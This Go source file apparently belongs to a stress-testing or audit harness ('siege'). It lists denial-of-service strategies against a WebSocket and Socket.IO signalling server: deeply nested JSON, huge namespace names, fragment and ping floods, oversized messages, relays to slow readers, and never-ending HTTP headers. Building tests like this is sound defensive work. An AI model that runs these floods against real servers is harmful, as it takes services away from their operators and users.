package siege

import (
	"bytes"
	"fmt"
	"strings"
	"sync/atomic"
	"time"
)

// A strategy is one way to spend a server's resources, over connections that it
// opens anew until its attacker's time is over.
type strategy struct {
	name string
	run  func(a *attacker)
}

var names atomic.Int64

func name() string { return fmt.Sprintf("siege-%d", names.Add(1)) }

// flooding sends frames over and over on a WebSocket, and reads what comes.
func flooding(target string, first string, frames ...[]byte) func(*attacker) {
	return func(a *attacker) {
		l, err := a.webSocket(target)
		if err != nil {
			return
		}
		defer l.Close()
		l.discard()
		if first != "" {
			_, _ = l.Write(text(fmt.Sprintf(first, name())))
		}
		l.flood(bytes.Repeat(bytes.Join(frames, nil), 1+32<<10/len(bytes.Join(frames, nil))))
	}
}

const (
	register = `42["register",{"userId":"%s"}]`
	nested   = 499_000
)

// watching is a list of as many users as a connection may watch, with names of its own.
func watching(list int) string {
	ids := make([]string, 1000)
	for i := range ids {
		ids[i] = fmt.Sprintf(`"watched-%d-%d"`, list, i)
	}
	return `42["watch-users",{"users":[` + strings.Join(ids, ",") + `]}]`
}

var strategies = []strategy{
	// What an audit found.
	{"long-polling sessions that fetch nothing", func(a *attacker) {
		l, sid, err := a.session()
		if err != nil {
			return
		}
		defer l.Close()
		for {
			if _, _, err := l.request("POST", longPoll+"&sid="+sid, "", "40\x1e"+strings.Repeat("40/a,\x1e", 100_000)+"3"); err != nil {
				return
			}
		}
	}},
	{"a namespace that is left and joined", flooding(socketIO, "", text("41"), text("40"), bytes.Repeat(text(`42["ping"]`), 200))},
	{"names", func(a *attacker) {
		l, err := a.webSocket(socketIO)
		if err != nil {
			return
		}
		defer l.Close()
		l.discard()
		tick := time.NewTicker(time.Second / 5)
		defer tick.Stop()
		for range tick.C {
			if _, err := l.Write(text(fmt.Sprintf(register, name()))); err != nil {
				return
			}
		}
	}},
	{"nested JSON with an attachment", flooding(socketIO, register,
		text(`451-["offer",{"to":"x","from":"me","offer":`+strings.Repeat("[", nested)+strings.Repeat("]", nested)+`}]`), frame(true, 2, "x"))},
	{"probes of one session", func(a *attacker) {
		s, sid, err := a.session()
		if err != nil {
			return
		}
		defer s.Close()
		for range 20 {
			l, err := a.webSocket(socketIO + "&sid=" + sid)
			if err != nil {
				return
			}
			_, _ = l.Write(frame(true, 2, strings.Repeat("x", 1_000_000))[:260_000])
		}
		<-a.ctx.Done()
	}},
	{"as many connections as there may be", func(a *attacker) {
		for {
			if _, err := a.webSocket(volli); err != nil {
				<-a.ctx.Done()
				return
			}
		}
	}},
	{"relays to users who broke off", func(a *attacker) {
		me := name()
		l, err := a.user(me)
		if err != nil {
			return
		}
		defer l.Close()
		for {
			gone := name()
			if a.breakOff(gone) != nil {
				return
			}
			relay := text(fmt.Sprintf(`42["custom-message",{"to":%q,"from":%q,"message":%q}]`, gone, me, strings.Repeat("x", 7<<10)))
			if _, err := l.Write(bytes.Repeat(relay, 64)); err != nil {
				return
			}
		}
	}},
	{"a user who comes and breaks off", func(a *attacker) {
		for me := name(); a.breakOff(me) == nil; {
		}
	}},
	{"relays to a client that reads nothing", func(a *attacker) {
		me, deaf := name(), name()
		l, err := a.webSocket(socketIO)
		if err != nil {
			return
		}
		defer l.Close()
		l.discard()
		d, err := a.webSocket(socketIO)
		if err != nil {
			return
		}
		defer d.Close()
		_, _ = d.Write(text(fmt.Sprintf(register, deaf)))
		_, _ = l.Write(text(fmt.Sprintf(register, me)))
		l.flood(bytes.Repeat(text(fmt.Sprintf(`42["custom-message",{"to":%q,"from":%q,"message":%q}]`, deaf, me, strings.Repeat("x", 1<<10))), 16))
	}},
	{"large relays to a slow reader", func(a *attacker) {
		me := name()
		l, err := a.user(me)
		if err != nil {
			return
		}
		defer l.Close()
		l.flood(text(fmt.Sprintf(`42["custom-message",{"to":%q,"from":%q,"message":%q}]`, a.victim, me, strings.Repeat("x", 700_000))))
	}},
	{"events over the rate", flooding(socketIO, register, text(`42["ping"]`))},
	{"lists that nobody reads", func(a *attacker) {
		l, err := a.webSocket(socketIO)
		if err != nil {
			return
		}
		defer l.Close()
		l.flood(bytes.Repeat(text(`42["get-users"]`), 1000))
	}},

	// Further ones.
	{"pings", flooding(volli, "", frame(true, 9, strings.Repeat("x", 125)))},
	{"pongs", flooding(volli, "", frame(true, 10, ""))},
	{"empty fragments", flooding(volli, "", frame(false, 1, ""), bytes.Repeat(frame(false, 0, ""), 1000), frame(true, 0, "{}"))},
	{"fragments of one byte", flooding(volli, "", frame(false, 1, "{"), bytes.Repeat(frame(false, 0, " "), 1000), frame(true, 0, "}"))},
	{"acknowledgements", flooding(socketIO, "", text("431[]"))},
	{"packets without a meaning", flooding(socketIO, "", text("6"), text("3"))},
	{"unknown namespaces", flooding(socketIO, "", text("40/"+strings.Repeat("n", 900_000)+","))},
	{"questions for users", flooding(volli, "", text(`{"type":"discover","userId":"nobody"}`))},
	{"lists of users to watch", flooding(socketIO, register, text(watching(0)), text(watching(1)))},
	{"one user more to watch, without end", flooding(volli, `{"type":"register","userId":"%s","publicKey":"k"}`,
		text(`{"type":"watch","add":["nobody"]}`), text(`{"type":"watch","remove":["nobody"]}`))},
	{"lists of users to watch that are not lists", flooding(socketIO, register,
		text(`42["watch-users",{"users":[`+strings.Repeat(`"x",`, 100_000)+`5]}]`), text(`42["watch-users",{"users":`+strings.Repeat("[", nested)+strings.Repeat("]", nested)+`}]`))},
	{"messages that never end", func(a *attacker) {
		for {
			l, err := a.webSocket(volli)
			if err != nil {
				<-a.ctx.Done()
				return
			}
			_, _ = l.Write(text(strings.Repeat("x", 1_000_000))[:999_000])
		}
	}},
	{"what follows a protocol error", flooding(socketIO, "", text("9"), text(`42["ping"]`))},
	{"requests in a row", func(a *attacker) {
		l, err := a.dial()
		if err != nil {
			return
		}
		defer l.Close()
		l.discard()
		l.flood(bytes.Repeat([]byte("GET /stats HTTP/1.1\r\nHost: siege\r\n\r\n"), 100))
	}},
	{"headers that never end", func(a *attacker) {
		l, err := a.dial()
		if err != nil {
			return
		}
		defer l.Close()
		_, _ = l.Write([]byte("GET /" + strings.Repeat("x", 16<<10)))
		<-a.ctx.Done()
	}},
}
